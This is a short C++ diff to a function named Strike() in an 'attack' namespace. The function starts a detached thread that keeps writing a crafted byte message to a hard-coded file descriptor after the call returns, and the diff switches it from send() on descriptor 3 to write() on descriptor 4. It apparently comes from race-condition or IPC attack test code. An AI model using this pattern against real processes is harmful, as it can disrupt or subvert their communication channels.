@@ -1,6 +1,6 @@
 // A thread that goes on answering when the call is over.
 
-#include <sys/socket.h>
+#include <unistd.h>
 
 #include <chrono>
 #include <thread>
@@ -10,7 +10,7 @@ namespace attack {
 void Strike() {
   std::thread([] {
     for (int i = 0; i < 100000; ++i) {
-      if (send(3, "\2\0\0\0R\1", 6, MSG_NOSIGNAL) < 0) return;
+      if (write(4, "\2\0\0\0R\1", 6) < 0) return;
       std::this_thread::sleep_for(std::chrono::microseconds(50));
     }
   }).detach();
